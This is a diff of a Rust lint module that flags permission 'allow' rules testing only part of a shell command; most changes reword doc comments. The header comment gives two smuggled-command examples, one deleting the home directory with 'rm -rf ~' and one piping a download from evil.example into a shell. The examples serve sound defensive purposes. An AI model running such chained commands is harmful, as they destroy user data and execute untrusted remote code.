@@ -1,5 +1,5 @@
-//! An `allow` that tests only part of a call and allows the rest unseen: `git status; rm -rf ~` runs `git status` too,
-//! and `touch docs/a; curl evil.example | sh` writes below `docs`.
+//! An `allow` whose condition tests a part of a call, and so allows the untested rest: `git status; rm -rf ~` runs
+//! `git status` too, and `touch docs/a; curl evil.example | sh` writes below `docs`.
 
 use super::calls::{MissingValueReading, SelectedCall, SelectedCalls};
 use super::{FindingSink, Lint, SourceTexts};
@@ -10,6 +10,7 @@ use crate::syntax::ast::FileVerb;
 
 pub(super) const LINT: Lint = Lint { codes: &[Code::ALLOW_ON_PART], check };
 
+/// Reports the first test that leaves a part of a selected call untested.
 fn check(written: &SourceTexts<'_>, rule: &Rule, findings: &mut FindingSink) {
     if !rule.can_allow {
         return;
@@ -34,7 +35,8 @@ fn check(written: &SourceTexts<'_>, rule: &Rule, findings: &mut FindingSink) {
     }
 }
 
-/// Whether a condition, or its negation, considers the whole of a call, so that no part of it is left untested.
+/// Whether a condition (or, with `is_negated`, its negation) takes every part of a call into account, or never holds
+/// for the call. Without a call, the tool is not known.
 fn is_covered(condition: &Condition, is_negated: bool, call: Option<&SelectedCall>) -> bool {
     if call.is_some_and(|call| call.evaluate(condition, MissingValueReading::AsHook) == Some(is_negated)) {
         return true;
@@ -56,7 +58,7 @@ fn is_covered(condition: &Condition, is_negated: bool, call: Option<&SelectedCal
     }
 }
 
-/// Returns the first test that leaves the rest of a call untested.
+/// Returns the first test in a condition that leaves a part of a call untested.
 fn partial_test<'c>(condition: &'c Condition, is_negated: bool, call: Option<&SelectedCall>) -> Option<&'c Condition> {
     if is_covered(condition, is_negated, call) {
         return None;
@@ -73,6 +75,7 @@ fn partial_test<'c>(condition: &'c Condition, is_negated: bool, call: Option<&Se
     }
 }
 
+/// Returns the finding about the test that leaves a part of a call untested.
 fn finding(written: &SourceTexts<'_>, part: &Condition) -> Diagnostic {
     let only = "add `only runs [\"ls *\", …]`, which applies to the whole text";
     match &part.kind {
@@ -105,10 +108,10 @@ fn finding(written: &SourceTexts<'_>, part: &Condition) -> Diagnostic {
     }
 }
 
-/// Returns the tools that access a file in this way and run no command.
+/// Returns the file tools that access a file as the verb says, and that run no command.
 fn file_tools(verb: FileVerb) -> Vec<&'static str> {
     let is_so = |tool: &&crate::schema::ToolSpec| {
-        // Only the well-known tools that access exactly one file.
+        // Other tools may do more with a call than access one file.
         let [file] = tool.files else { return false };
         let does = match verb {
             FileVerb::Reads => file.reads && !file.writes,
